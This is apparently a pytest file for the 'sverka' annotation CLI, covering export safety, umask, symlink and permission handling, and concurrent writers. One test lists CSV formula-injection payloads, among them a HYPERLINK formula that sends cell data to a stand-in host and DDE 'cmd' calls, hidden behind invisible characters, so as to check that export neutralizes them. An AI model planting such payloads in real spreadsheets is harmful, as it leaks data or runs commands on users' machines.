"""Issue 13, files in and out, through the CLI as a subprocess.

Rows: 1 (export onto a project), 17 (special export targets, umask), 11 (symlinks leaving an
imported folder), 16 (unreadable sub-folders), 20 (CSV formula guard), 23 (one bad file of a
NAME.xx.txt group) of the reliability review.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import stat
import threading
import time
from pathlib import Path

import pytest

from support.cli_process import assert_one_line_error, error_lines, sverka, sverka_started, unprivileged

GOOD_CSV = (
    "text,lang\nThe river rose overnight. Roads were closed.,en\nPolice blocked the square. Nobody was hurt.,en\n"
)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    path = tmp_path / "p.sverka"
    assert sverka("init", str(path)).returncode == 0
    (tmp_path / "ok.csv").write_text(GOOD_CSV, encoding="utf-8")
    result = sverka("import", str(path), str(tmp_path / "ok.csv"), "--no-names")
    assert result.returncode == 0, result.stderr
    return path


def _articles(project: Path) -> int:
    result = sverka("stats", str(project), "--json")
    assert result.returncode == 0, result.stderr
    return int(json.loads(result.stdout)["articles"])


def _sources(project: Path) -> list[str]:
    conn = sqlite3.connect(f"{project.as_uri()}?mode=ro", uri=True)
    try:
        return sorted(Path(row[0]).name for row in conn.execute("SELECT source FROM article"))
    finally:
        conn.close()


# --- row 1: an export never overwrites a project --------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "mqm-tsv"])
def test_export_onto_the_open_project_is_refused_and_the_project_survives(project: Path, fmt: str) -> None:
    before = project.read_bytes()
    assert_one_line_error(sverka("export", str(project), "-o", str(project), "--format", fmt), "Sverka project")
    assert project.read_bytes() == before
    assert _articles(project) == 2


def test_export_onto_another_project_or_through_a_symlink_is_refused(project: Path, tmp_path: Path) -> None:
    other = tmp_path / "other.sverka"
    assert sverka("init", str(other)).returncode == 0
    other_before = other.read_bytes()
    assert_one_line_error(sverka("export", str(project), "-o", str(other)), "other.sverka", "Sverka project")
    assert other.read_bytes() == other_before
    link = tmp_path / "export.csv"
    link.symlink_to(project.name)
    before = project.read_bytes()
    assert_one_line_error(sverka("export", str(project), "-o", str(link), "--format", "csv"), "Sverka project")
    assert project.read_bytes() == before and link.is_symlink()


def test_export_still_replaces_an_ordinary_file_and_other_sqlite_files(project: Path, tmp_path: Path) -> None:
    old = tmp_path / "old.csv"
    old.write_text("stale\n", encoding="utf-8")
    assert sverka("export", str(project), "-o", str(old), "--format", "csv").returncode == 0
    assert "stale" not in old.read_text(encoding="utf-8-sig")
    foreign = tmp_path / "foreign.db"
    with sqlite3.connect(foreign) as conn:
        conn.execute("CREATE TABLE t (x)")
    conn.close()
    assert sverka("export", str(project), "-o", str(foreign)).returncode == 0


# --- row 17: FIFOs, devices, folders; the umask -----------------------------------------------


def test_export_refuses_a_fifo_a_device_and_a_folder(project: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    device = tmp_path / "null.jsonl"
    device.symlink_to("/dev/null")
    folder = tmp_path / "out"
    folder.mkdir()
    for target, kind in ((fifo, "a FIFO"), (device, "a device"), (folder, "a folder")):
        result = sverka("export", str(project), "-o", str(target), timeout=60)
        assert_one_line_error(result, str(target), kind, "not a regular file")
    assert stat.S_ISFIFO(fifo.lstat().st_mode) and device.is_symlink() and folder.is_dir()
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


@pytest.mark.parametrize("umask", [0o022, 0o077, 0o002])
def test_exports_follow_the_umask(project: Path, tmp_path: Path, umask: int) -> None:
    target = tmp_path / f"out-{umask:o}.csv"

    def set_umask() -> None:
        os.umask(umask)

    result = sverka("export", str(project), "-o", str(target), "--format", "csv", preexec_fn=set_umask)
    assert result.returncode == 0, result.stderr
    assert stat.S_IMODE(target.stat().st_mode) == 0o666 & ~umask
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".out-")] == []


# --- row 20: the CSV formula guard sees through leading invisibles ----------------------------

HOSTILE_NOTES = [
    '\u200b=HYPERLINK("http://x.example/?d="&A1)',
    "\n+cmd|' /C calc'!A0",
    " \u00a0\ufeff-2+3",
    "\u200f@SUM(A1:A9)",
    '\uff1dHYPERLINK("http://x.example")',
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "|cmd",
    "\u2060 | calc",
]


def _sentence_ids(project: Path) -> list[str]:
    conn = sqlite3.connect(f"{project.as_uri()}?mode=ro", uri=True)
    try:
        return [row[0] for row in conn.execute("SELECT id FROM sentence ORDER BY text_id, idx")]
    finally:
        conn.close()


def test_csv_export_neutralizes_formulas_behind_invisible_characters(project: Path, tmp_path: Path) -> None:
    extra = tmp_path / "extra.jsonl"
    extra.write_text(
        "".join(json.dumps({"text": f"Extra report {i}.", "lang": "en"}) + "\n" for i in range(len(HOSTILE_NOTES))),
        encoding="utf-8",
    )
    assert sverka("import", str(project), str(extra), "--no-names").returncode == 0
    ids = _sentence_ids(project)[: len(HOSTILE_NOTES)]
    stdin = "".join(
        json.dumps({"sentence_id": sid, "action": "note", "note": note, "annotator": "ana"}) + "\n"
        for sid, note in zip(ids, HOSTILE_NOTES, strict=True)
    )
    tagged = sverka("tag", str(project), stdin=stdin)
    assert tagged.returncode == 0, tagged.stderr
    out = tmp_path / "out.csv"
    assert sverka("export", str(project), "-o", str(out), "--format", "csv").returncode == 0
    rows = {r["sentence_id"]: r for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))}
    notes = [rows[sid]["notes"] for sid in ids]
    assert notes == ["'" + note for note in HOSTILE_NOTES]


def test_csv_guard_leaves_ordinary_cells_alone() -> None:
    from sverka.ops.export.writers.csv import csv_cell

    for plain in ["Roads were closed.", " a = b", "\u200bfine", "", "e-mail", "\uff21"]:
        assert csv_cell(plain) == plain
    assert csv_cell("=1") == "'=1" and csv_cell("\t=1") == "'\t=1"


# --- row 11: symlinks that leave an imported folder -------------------------------------------


def test_a_symlink_leaving_an_imported_folder_is_skipped_with_one_line(project: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "key.txt").write_text("PRIVATE KEY MATERIAL. Do not import.\n", encoding="utf-8")
    corpus = tmp_path / "corpus"
    (corpus / "sub").mkdir(parents=True)
    (corpus / "real.txt").write_text("A real report. It stays in the folder.\n", encoding="utf-8")
    (corpus / "notes.txt").symlink_to(secret / "key.txt")
    (corpus / "sub" / "up.txt").symlink_to("../../secret/key.txt")
    (corpus / "sub" / "other.txt").write_text("Another report, linked from the top.\n", encoding="utf-8")
    (corpus / "inside.txt").symlink_to("sub/other.txt")  # stays inside: still read
    result = sverka("import", str(project), str(corpus), "--no-names")
    assert result.returncode == 1 and "Traceback" not in result.stderr
    lines = error_lines(result.stderr)
    assert len(lines) == 2, lines
    assert all("outside the folder" in line for line in lines)
    assert "notes.txt" in lines[0] and "up.txt" in lines[1]
    assert {"real.txt", "inside.txt"} <= set(_sources(project))
    assert "key.txt" not in _sources(project) and "notes.txt" not in _sources(project)
    exported = sverka("export", str(project))
    assert "PRIVATE KEY" not in exported.stdout


def test_a_symlink_named_explicitly_is_still_imported(project: Path, tmp_path: Path) -> None:
    secret = tmp_path / "elsewhere"
    secret.mkdir()
    (secret / "report.txt").write_text("A report the user links on purpose.\n", encoding="utf-8")
    link = tmp_path / "corpus-link.txt"
    link.symlink_to(secret / "report.txt")
    result = sverka("import", str(project), str(link), "--no-names")
    assert result.returncode == 0, result.stderr
    assert _articles(project) == 3


# --- row 16: an unreadable sub-folder -----------------------------------------------------------


def test_an_unreadable_sub_folder_is_one_line_and_exit_1(project: Path, tmp_path: Path) -> None:
    prefix = unprivileged(tmp_path)
    corpus = tmp_path / "corpus"
    (corpus / "sub").mkdir(parents=True)
    (corpus / "good.txt").write_text("A readable report.\n", encoding="utf-8")
    (corpus / "sub" / "hidden.txt").write_text("Cannot be read.\n", encoding="utf-8")
    (corpus / "sub").chmod(0)
    try:
        result = sverka("import", str(project), str(corpus), "--no-names", prefix=prefix)
    finally:
        (corpus / "sub").chmod(0o755)
    line = assert_one_line_error(result, "sub", "cannot read folder", "Permission denied")
    assert "hidden.txt" not in line
    assert "imported 1 articles" in result.stdout


# --- row 23: one bad file of a NAME.xx.txt group -------------------------------------------------

NOISE = bytes(range(256)) * 8  # not text in any encoding


def test_a_bad_translation_drops_only_itself(project: Path, tmp_path: Path) -> None:
    corpus = tmp_path / "group"
    corpus.mkdir()
    (corpus / "flood.kk.txt").write_text("Су тасқыны басталды. Жолдар жабылды.\n", encoding="utf-8")
    (corpus / "flood.ru.txt").write_text("Началось наводнение. Дороги закрыты.\n", encoding="utf-8")
    (corpus / "flood.en.txt").write_bytes(NOISE)
    result = sverka("import", str(project), str(corpus), "--no-names", "--no-align", "--json")
    line = assert_one_line_error(result, "flood.en.txt")
    assert "flood.ru.txt" not in line and "flood.kk.txt" not in line
    report = json.loads(result.stdout)
    assert report["articles"] == 1 and report["texts"] == 2, report
    assert _sources(project).count("flood.kk.txt") == 1


def test_a_bad_original_names_the_translations_left_out(project: Path, tmp_path: Path) -> None:
    corpus = tmp_path / "group"
    corpus.mkdir()
    (corpus / "storm.ru.txt").write_bytes(NOISE)
    (corpus / "storm.en.txt").write_text("A storm hit the coast.\n", encoding="utf-8")
    result = sverka("import", str(project), str(corpus), "--no-names")
    line = assert_one_line_error(result, "storm.ru.txt", "storm.en.txt", "not imported")
    assert line.startswith(f"sverka: {corpus / 'storm.ru.txt'}: ")
    assert _articles(project) == 2


# --- row 3: two writers creating the same annotator or article at once -----------------------------


def _start_together(commands: list[list[str]], stdins: list[str]) -> list[tuple[int, str, str]]:
    """Start every process, let them all load, then give them their input at the same moment."""
    processes = [sverka_started(*command) for command in commands]
    time.sleep(3)  # every process is up and blocked reading stdin (or on its first line)
    threads = [
        threading.Thread(target=lambda p=p, s=s: results.__setitem__(p.pid, p.communicate(s, timeout=120)))
        for p, s in zip(processes, stdins, strict=True)
    ]
    results: dict[int, tuple[str, str]] = {}
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return [(p.returncode, *results[p.pid]) for p in processes]


def test_two_taggers_creating_the_same_annotator_both_succeed(project: Path) -> None:
    ids = _sentence_ids(project)
    for round_ in range(4):
        who = f"new-annotator-{round_}"
        lines = [
            "".join(
                json.dumps({"sentence_id": sid, "label": label, "annotator": who}) + "\n"
                for sid in ids
                for _ in range(3)
            )
            for label in ("violence", "protest", "violence")
        ]
        outcomes = _start_together([["tag", str(project)]] * 3, lines)
        for status, _out, err in outcomes:
            assert status == 0 and "Traceback" not in err, err
    conn = sqlite3.connect(f"{project.as_uri()}?mode=ro", uri=True)
    try:
        names = [row[0] for row in conn.execute("SELECT name FROM annotator WHERE name LIKE 'new-annotator-%'")]
    finally:
        conn.close()
    assert sorted(names) == [f"new-annotator-{i}" for i in range(4)]


def test_two_imports_of_the_same_folder_both_succeed(project: Path, tmp_path: Path) -> None:
    for round_ in range(3):
        table = tmp_path / f"same-{round_}.jsonl"
        table.write_text(
            "".join(json.dumps({"text": f"Round {round_} report {i}. It is new."}) + "\n" for i in range(40)),
            encoding="utf-8",
        )
        command = ["import", str(project), str(table), "--no-names", "--no-align"]
        outcomes = _start_together([command] * 3, ["", "", ""])
        for status, _out, err in outcomes:
            assert status == 0 and "Traceback" not in err, err
    assert _articles(project) == 2 + 3 * 40
